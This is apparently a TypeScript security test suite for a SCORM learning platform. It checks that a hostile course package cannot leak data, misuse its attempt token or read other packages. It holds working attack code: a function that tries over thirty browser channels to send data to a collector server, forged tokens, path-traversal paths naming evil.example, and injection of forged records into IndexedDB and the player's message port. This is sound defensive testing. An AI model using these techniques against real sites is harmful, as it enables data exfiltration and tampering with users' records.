import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { api, listOperations } from '@learnt/contract'
import { fillPath } from '@learnt/contract/endpoint'
import { launchableItems } from '@learnt/contract/package-tree'
import { RuntimeState } from '@learnt/contract/runtime'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { manifest12 } from '../apps/server/test/given/archives.ts'
import { makeZip } from '../apps/server/test/given/zip.ts'
import { type Caller, password, signInByApi } from './given/calls.ts'
import { type GivenCourse, givenPackage } from './given/courses.ts'
import { deviceOf, newDevice } from './given/devices.ts'
import { givenHostileCourse, type HostileWorld, startHostileWorld, startPackage } from './given/hostile-world.ts'
import { buildPackage } from './given/packages.ts'
import type { TortureWorld } from './torture/world.ts'

let hostile: HostileWorld
/** For a package without scripts: only the tests act in its page. */
let quiet: GivenCourse
/** A server on another origin that collects secrets, by HTTP and UDP. */
const packet = 'a packet'
const outside = { heard: [] as string[], port: 0, udpPort: 0, close: () => {} }

beforeAll(async () => {
  hostile = await startHostileWorld()
  quiet = await givenHostileCourse(hostile, 'Quiet', quietPackage())

  const server = createServer((request, reply) => {
    outside.heard.push(`${request.method} ${request.url}`)
    reply.setHeader('access-control-allow-origin', '*')
    reply.end('heard')
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  outside.port = (server.address() as AddressInfo).port
  const udp = createSocket('udp4')
  udp.on('message', () => outside.heard.push(packet))
  await new Promise<void>((done) => udp.bind(0, '127.0.0.1', done))
  outside.udpPort = udp.address().port
  outside.close = () => {
    server.close()
    udp.close()
  }
})
afterAll(async () => {
  outside.close()
  await hostile?.stop()
})

describe('a hostile package', () => {
  test('tells nobody outside what it knows', async () => {
    const device = await deviceOf(hostile.learner.account, { url: hostile.url })
    const frame = await startPackage(device, { course: 'Quiet' })
    outside.heard.length = 0
    const tried = await frame.evaluate(tellOutside, {
      address: `http://127.0.0.1:${outside.port}/secret`,
      udpPort: outside.udpPort,
    })
    // An unrestricted page in the same browser as control: messages sent earlier have arrived by the time its message
    // arrives.
    const { page: free } = await newDevice({ url: hostile.url })
    await free.goto(`http://127.0.0.1:${outside.port}/last`)
    await expect.poll(() => outside.heard).toContain('GET /last')
    expect(tried.length).toBeGreaterThanOrEqual(20)
    const packets = outside.heard.filter((what) => what === packet).length
    const heard = outside.heard.filter((what) => what.includes('/secret'))
    process.stdout.write(
      `hostile package: ${tried.length} ways out tried, ${heard.length} heard outside (${packets} packets of calls, which no policy of a browser stops yet)\n`,
    )
    expect(heard).toEqual([])
  })

  test('takes the token of its attempt, which opens that attempt and nothing else', async () => {
    const device = await deviceOf(hostile.learner.account, { url: hostile.url })
    const seenBefore = hostile.proxy.seen.length
    await startPackage(device, { course: 'Quiet' })
    const bearer = () => hostile.proxy.seen.slice(seenBefore).find((one) => one.authorization !== '')?.authorization
    await expect.poll(bearer).toBeTruthy()
    const authorization = bearer() ?? ''
    const token = authorization.replace('Bearer ', '')

    // Every operation of the contract, with the token in every place where an attacker might try it.
    const reached: string[] = []
    let asked = 0
    for (const operation of listOperations()) {
      if (
        operation.access === 'attempt' ||
        operation.access === 'public' ||
        operation.access === 'guest' ||
        operation.access === 'operator'
      )
        continue
      const ids = new Proxy({}, { get: (_, name) => (name === 'documentType' ? 'course' : quiet.id), has: () => true })
      const path = fillPath(operation.path, ids)
      for (const headers of [
        { authorization },
        { authorization, origin: hostile.url },
        { cookie: `__Host-Http-learnt=${token}; learnt_session=${token}` },
      ] as Record<string, string>[]) {
        const body = operation.method === 'GET' || operation.method === 'DELETE' ? {} : { body: '{}' }
        const answer = await fetch(`${hostile.url}${path}?token=${encodeURIComponent(token)}`, {
          method: operation.method,
          headers: { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID(), ...headers },
          ...body,
        })
        asked++
        if (answer.status !== 401 && answer.status !== 403 && answer.status !== 426)
          reached.push(`${operation.id}: ${answer.status}`)
      }
    }
    expect(reached).toEqual([])

    // Its own attempt: allowed by design. Another attempt: by no change of the token.
    expect((await stateOf(token)).status).toBe(200)
    const [body = '', signature = ''] = token.split('.')
    const claims = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>
    const other = await givenAttempt(hostile.world.learners[1] as HostileWorld['learner'])
    const forged = [
      { ...claims, attemptId: other.attemptId },
      { ...claims, attemptId: other.attemptId, userId: (hostile.world.learners[1] as HostileWorld['learner']).userId },
      { ...claims, tenantId: 'munro' },
      { ...claims, expiresAt: Date.now() + 1e12 },
      { ...claims, mode: 'browse' },
    ].map((one) => Buffer.from(JSON.stringify(one)).toString('base64url'))
    const forgeries = [
      ...forged.flatMap((text) => [`${text}.${signature}`, `${text}.`, text]),
      `${body}.`,
      `.${signature}`,
      `${body}.${signature}.x`.replace('.x', 'x'),
      signature,
    ]
    const statuses = await Promise.all(forgeries.map(async (one) => (await stateOf(one)).status))
    expect(statuses.filter((status) => status !== 401)).toEqual([])
    process.stdout.write(
      `hostile package: its token at ${asked} calls of operations and ${forgeries.length} forgeries of it, 0 let in\n`,
    )

    // The other attempt is unchanged.
    expect(await (await stateOf(other.token)).json()).toMatchObject({ attemptId: other.attemptId })
  })

  test('gets no file of another package, by its own address or by a guessed one', async () => {
    const device = await deviceOf(hostile.learner.account, { url: hostile.url })
    const frame = await startPackage(device, { course: 'Quiet' })
    const otherId = await givenPackage(hostile.world.admin, await buildPackage({ title: 'Not yours' }))
    const [, segment = ''] = /\/c\/([^/]+)\//.exec(frame.url()) ?? []
    const [text = '', signature = ''] = segment.split('.')
    const parts = JSON.parse(Buffer.from(text, 'base64url').toString()) as unknown[]
    const forge = (change: Record<number, unknown>) =>
      Buffer.from(JSON.stringify(parts.map((part, index) => change[index] ?? part))).toString('base64url')
    const paths = [
      ...[{ 2: otherId }, { 1: 'munro' }, { 0: 99_999 }, { 3: crypto.randomUUID() }, { 4: 'http://evil.example' }].map(
        (change) => `/c/${forge(change)}.${signature}/imsmanifest.xml`,
      ),
      `/c/${segment}/../${otherId}/imsmanifest.xml`,
      `/c/${segment}/..%2f${otherId}%2fimsmanifest.xml`,
      `/c/${segment}/%2e%2e/%2e%2e/imsmanifest.xml`,
      `/c/${text}./imsmanifest.xml`,
      `/c/${text}/imsmanifest.xml`,
      `/c//imsmanifest.xml`,
      `/c/${otherId}/imsmanifest.xml`,
      `/player/${forge({ 4: 'http://evil.example' })}.${signature}/scorm12.html`,
    ]
    const read = (path: string) =>
      frame.evaluate(
        (address) =>
          fetch(address).then(
            (answer) => answer.status,
            () => 0,
          ),
        path,
      )
    const statuses: number[] = []
    for (const path of paths) statuses.push(await read(path))
    expect(statuses.filter((status) => status !== 404)).toEqual([])
    expect(await read(`/c/${segment}/imsmanifest.xml`)).toBe(200)
    process.stdout.write(`hostile package: ${paths.length} addresses of other content, 0 answered\n`)
  })

  test('writes into the player’s queue in vain: what it forges for another attempt is never sent', async () => {
    const device = await deviceOf(hostile.learner.account, { url: hostile.url })
    const frame = await startPackage(device, { course: 'Quiet' })
    const mine = await givenAttempt(hostile.learner, (hostile.world.courses[0] as TortureWorld['courses'][0]).courseId)
    const { package: played } = RuntimeState.parse(await (await stateOf(mine.token)).json())
    const scos = launchableItems(played.organization.items).map((item) => item.id)
    expect(scos).toHaveLength(3)
    const forged = await frame.evaluate(forgeJournal, { attemptId: mine.attemptId, scos })
    expect(forged).toBeGreaterThan(0)
    await device.page.getByRole('dialog').getByRole('button', { name: 'Leave', exact: true }).click()
    // The player opens a package after the waiting queue was sent and answered, and the state was read.
    await startPackage(device, { course: 'Course 0' })
    expect(await (await stateOf(mine.token)).text()).not.toContain('forged')
  })
})

function quietPackage(): Buffer {
  return makeZip([
    { name: 'imsmanifest.xml', data: manifest12({ title: 'Quiet' }), method: 8 },
    { name: 'index.html', data: '<!doctype html><meta charset="utf-8"><title>Quiet</title><p>Quiet', method: 8 },
  ])
}

/** A person's own attempt at a package, launched by the API. */
async function givenAttempt(
  who: { account: string },
  courseId = quiet.id,
): Promise<{ attemptId: string; token: string }> {
  const caller: Caller = await signInByApi(hostile.url, who.account, password)
  const course = await caller.call(api.learning.course, { params: { userCourseId: courseId } })
  const step = course.sections.flatMap((section) => section.activities).find((one) => one.kind === 'scorm')
  return caller.call(api.learning.launch, {
    params: { userCourseId: course.userCourseId, activityId: step?.id ?? '' },
    body: {},
  })
}

function stateOf(token: string): Promise<Response> {
  return fetch(`${hostile.url}/api/runtime/state`, { headers: { authorization: `Bearer ${token}` } })
}

/** Runs in the package's page: tries every way of sending something to the outside. Returns what was tried. */
async function tellOutside({ address, udpPort }: { address: string; udpPort: number }): Promise<string[]> {
  const tried: string[] = []
  const player = window.parent
  const attempt = async (name: string, tell: (to: string) => unknown) => {
    tried.push(name)
    try {
      await Promise.race([
        tell(`${address}?${name.replaceAll(' ', '-')}`),
        new Promise((resolve) => setTimeout(resolve, 2000)),
      ])
    } catch {
      // Refused, as it must be.
    }
  }
  const element = (tag: string, set: Record<string, string>, into = document) => {
    const made = into.createElement(tag)
    for (const [name, value] of Object.entries(set)) made.setAttribute(name, value)
    into.body.append(made)
    return made
  }
  const navigated = (go: (inner: HTMLIFrameElement) => void, into = document) => {
    const inner = element('iframe', {}, into) as HTMLIFrameElement
    // Also loads when refused: an empty page, or an error page.
    const loaded = new Promise((resolve) => inner.addEventListener('load', resolve, { once: true }))
    go(inner)
    return loaded
  }
  await attempt('fetch', (to) => fetch(to, { mode: 'no-cors' }))
  await attempt('fetch kept alive', (to) => fetch(to, { mode: 'no-cors', method: 'POST', keepalive: true, body: 'x' }))
  await attempt('beacon', (to) => navigator.sendBeacon(to, 'x'))
  await attempt('old request', (to) => {
    const request = new XMLHttpRequest()
    request.open('GET', to)
    request.send()
  })
  await attempt('socket', (to) => new WebSocket(to.replace('http', 'ws')))
  await attempt('event source', (to) => new EventSource(to))
  await attempt(
    'transport',
    (to) =>
      new (window as never as { WebTransport: new (to: string) => unknown }).WebTransport(
        to.replace('http:', 'https:'),
      ),
  )
  await attempt('image', (to) => {
    new Image().src = to
  })
  await attempt('script', (to) => element('script', { src: to }))
  await attempt('style', (to) => element('link', { rel: 'stylesheet', href: to }))
  await attempt('preconnect', (to) => element('link', { rel: 'preconnect', href: to }))
  await attempt('prefetch', (to) => element('link', { rel: 'prefetch', href: to }))
  await attempt('preload', (to) => element('link', { rel: 'preload', as: 'image', href: to }))
  await attempt('manifest', (to) => element('link', { rel: 'manifest', href: to }))
  await attempt('font', (to) => new FontFace('told', `url(${to})`).load())
  await attempt('film', (to) => element('video', { src: to, autoplay: '' }))
  await attempt('object', (to) => element('object', { data: to }))
  await attempt('background', (to) => element('p', { style: `background: url(${to})` }))
  await attempt('drawing', (to) => {
    document.body.insertAdjacentHTML('beforeend', `<svg><image href="${to}"/><use href="${to}#a"/></svg>`)
  })
  await attempt('frame', (to) => navigated((inner) => inner.setAttribute('src', to)))
  await attempt('frame moved', (to) => navigated((inner) => inner.contentWindow?.location.assign(to)))
  await attempt('form', (to) => {
    const form = element('form', { action: to, method: 'post', target: 'told' }) as HTMLFormElement
    element('iframe', { name: 'told' })
    form.submit()
  })
  await attempt('ping', (to) => (element('a', { href: '#told', ping: to }) as HTMLAnchorElement).click())
  await attempt(
    'worker',
    (to) =>
      new Worker(
        URL.createObjectURL(
          new Blob([`fetch(${JSON.stringify(to)}, { mode: 'no-cors' })`], { type: 'text/javascript' }),
        ),
      ),
  )
  await attempt(
    'imported script',
    (to) =>
      new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(to)})`], { type: 'text/javascript' }))),
  )
  await attempt('module', (to) => (new Function('to', 'return import(to)') as (to: string) => Promise<unknown>)(to))
  await attempt('call', async () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] })
    call.createDataChannel('told')
    await call.setLocalDescription(await call.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 1500))
  })
  // The same through the player, whose page shares its origin and has its own policy.
  await attempt('player: fetch', (to) => player.fetch(to, { mode: 'no-cors' }))
  await attempt('player: image', (to) => element('img', { src: to }, player.document))
  await attempt('player: script', (to) => element('script', { src: to }, player.document))
  await attempt('player: frame', (to) => navigated((inner) => inner.setAttribute('src', to), player.document))
  await attempt('player: form', (to) =>
    (element('form', { action: to, method: 'post', target: 'told' }, player.document) as HTMLFormElement).submit(),
  )
  await attempt('player: socket', (to) => new (player as never as typeof window).WebSocket(to.replace('http', 'ws')))
  await attempt('page of one’s own', (to) =>
    navigated((inner) => inner.setAttribute('srcdoc', `<img src="${to}"><script>fetch("${to}")</script>`)),
  )
  await attempt('page of data', (to) =>
    navigated((inner) =>
      inner.setAttribute('src', `data:text/html,<img src="${to}"><script>fetch("${to}",{mode:"no-cors"})</script>`),
    ),
  )
  await attempt('page of a blob', (to) =>
    navigated((inner) =>
      inner.setAttribute(
        'src',
        URL.createObjectURL(
          new Blob([`<img src="${to}"><script>fetch("${to}",{mode:"no-cors"})</script>`], { type: 'text/html' }),
        ),
      ),
    ),
  )
  return tried
}

/**
 * Runs in the package's page: writes data of another attempt into the queue, both into the database of this origin and,
 * where browsers separate that for frames, into the application's by the player's own port.
 */
async function forgeJournal({ attemptId, scos }: { attemptId: string; scos: string[] }): Promise<number> {
  const records = scos.flatMap((sco) =>
    [1, 2, 3, 4, 5].map((epoch) => {
      const snapshot = { 'cmi.core.lesson_status': 'passed', 'cmi.suspend_data': 'forged' }
      const commit = { epoch, seq: 999, sco, visit: 1, snapshot, elapsed: 0, initialized: true, end: true, calls: [] }
      return { attemptId, epoch, seq: 999, sco, commit, seal: 'forged' }
    }),
  )
  let forged = 0
  const databases = await indexedDB.databases().catch(() => [])
  for (const { name = '', version } of databases) {
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open(name, version)
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
    for (const store of database.objectStoreNames) {
      for (const record of records) {
        await new Promise((resolve) => {
          const written = database.transaction(store, 'readwrite').objectStore(store).put(record)
          written.onsuccess = () => resolve(++forged)
          written.onerror = resolve
        }).catch(() => undefined)
      }
    }
    database.close()
  }
  // The player messages its page when the package calls; by then the package has its port.
  const player = window.parent as never as typeof window & {
    API: { LMSInitialize(of: string): string; LMSCommit(of: string): string }
  }
  const { postMessage } = player.MessagePort.prototype
  const port = await new Promise<MessagePort>((resolve) => {
    player.MessagePort.prototype.postMessage = function (this: MessagePort, ...words: unknown[]) {
      resolve(this)
      return Reflect.apply(postMessage, this, words)
    }
    player.API.LMSInitialize('')
    player.API.LMSCommit('')
  })
  for (const record of records) {
    Reflect.apply(postMessage, port, [{ type: 'journal-put', record }])
    forged++
  }
  return forged
}
